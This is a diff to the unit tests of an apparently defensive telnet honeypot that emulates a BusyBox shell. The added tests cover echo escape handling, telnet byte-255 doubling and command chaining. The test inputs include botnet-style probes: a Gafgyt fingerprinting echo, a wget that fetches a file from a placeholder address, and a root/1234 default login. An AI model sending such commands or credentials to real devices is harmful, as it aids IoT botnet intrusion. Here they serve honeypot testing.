@@ -142,6 +142,9 @@ static void echo_prints_bytes(void **state)
     answers(state, "echo -ne '\\x41c4\\x42'", "Ac4B");
     answers(state, "echo -e \"\\x6b\\x61\\x6d\\x69\"", "kami\r\n");
     answers(state, "echo -en '\\0101\\n'", "A\r\n");
+    /* Gafgyt's check: BusyBox takes octal without a zero before it. */
+    answers(state, "echo -e '\\147\\141\\171\\146\\147\\164'", "gayfgt\r\n");
+    answers(state, "echo -e '\\1019\\8'", "A9\\8\r\n");
     answers(state, "echo '\\x41' b", "\\x41 b\r\n");
     answers(state, "echo -n a; echo b", "ab\r\n");
     answers(state, "echo hidden >/dev/null 2>&1", "");
@@ -155,6 +158,8 @@ static void commands_are_chained(void **state)
     answers(state, "cd /tmp && echo y || echo n", "y\r\n");
     answers(state, "cat /nowhere >/dev/null && echo y || echo n",
             "cat: can't open '/nowhere': No such file or directory\r\nn\r\n");
+    answers(state, "wget http://192.0.2.9/x -O - > d; echo x; cat d",
+            "wget: can't connect to remote host: Connection timed out\r\nx\r\n");
     answers(state, "mkdir x&&chmod 777 x;echo $?", "$?\r\n");
     answers(state, "cat /proc/mounts | grep nothing", "");
     answers(state, "whatever", "\r\n");
@@ -179,6 +184,15 @@ static void subnegotiation_is_no_text(void **state)
     struct played *played = play(persona_of_port(*state, 23), naws, sizeof naws - 1, 1);
     assert_string_equal(played->heard, "login root 1234 accepted\n");
     free(played);
+}
+
+/* RFC 854: a byte 255 among data is sent twice. */
+static void byte_255_is_no_command(void **state)
+{
+    said(state, "r\xff\xff\n\n", HELLO "r\xff\xff\r\nPassword: \r\n" BANNER "# ",
+         "login r\xff  accepted\n");
+    answers(state, "echo -ne '\\xff\\x41'", "\xff\xff\x41");
+    answers(state, "echo -ne '\\xff' > f; cat f", "\xff\xff");
 }
 
 static void line_ends_in_any_way(void **state)
@@ -323,6 +337,7 @@ int main(void)
         cmocka_unit_test(commands_are_chained),
         cmocka_unit_test(options_are_refused_but_for_ours),
         cmocka_unit_test(subnegotiation_is_no_text),
+        cmocka_unit_test(byte_255_is_no_command),
         cmocka_unit_test(line_ends_in_any_way),
         cmocka_unit_test(password_is_not_echoed),
         cmocka_unit_test(client_that_wants_no_echo_gets_none),
